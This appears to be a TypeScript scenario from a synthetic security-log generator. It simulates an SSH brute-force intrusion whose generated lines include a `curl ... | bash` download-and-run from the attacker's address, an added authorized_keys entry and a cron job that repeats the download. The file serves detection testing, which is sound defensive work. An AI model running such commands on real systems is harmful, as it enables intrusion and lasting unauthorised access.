import { linuxFileWritten, linuxProcess, sshAccepted, sshFailed, syslogLine } from '../lines/servers.ts'
import { linuxServer, MINUTE, outsideAddress, type SampleLine, type Scene, SECOND } from '../scene.ts'
import { ANYWHERE, type Scenario, stepper } from './scenario.ts'

const NAMES = ['root', 'admin', 'operador', 'respaldo', 'postgres', 'oracle'] as const

/** A server's password is guessed over SSH; the intruder signs in and settles. */
export const sshBruteForce: Scenario = {
  name: 'SSH password guessed',
  offices: ANYWHERE,
  fires: [
    'Password guessing over SSH',
    'SSH sign-in succeeds after password guessing',
    'Script downloaded and run at once',
    'SSH key added for unattended sign-in',
    'Scheduled job downloads and runs something',
  ],
  lines: guess,
}

function* guess(scene: Scene, start: number): Generator<SampleLine> {
  const { office, random } = scene
  const after = stepper(scene, start)
  const host = linuxServer(office, 'web01')
  const from = outsideAddress(random.between(0, 20))
  for (let i = 0; i < 60; i++) {
    yield sshFailed(host, after(2 * SECOND), { user: random.pick(NAMES), from, port: 40_000 + i })
  }
  yield sshAccepted(host, after(3 * SECOND), { method: 'password', user: 'respaldo', from, port: 41_900 })
  const shell = { parent: '/usr/bin/bash', user: 'respaldo' }
  const download = `curl -fsSL http://${from}/i.sh | bash`
  yield linuxProcess(host, after(MINUTE), { ...shell, image: '/usr/bin/bash', commandLine: `bash -c ${download}` })
  const by = { image: '/usr/bin/bash', user: 'respaldo' }
  yield linuxFileWritten(host, after(20 * SECOND), '/home/respaldo/.ssh/authorized_keys', by)
  yield syslogLine(after(5 * MINUTE), { host, program: 'CRON', pid: 8_812, text: `(respaldo) CMD (${download})` })
}
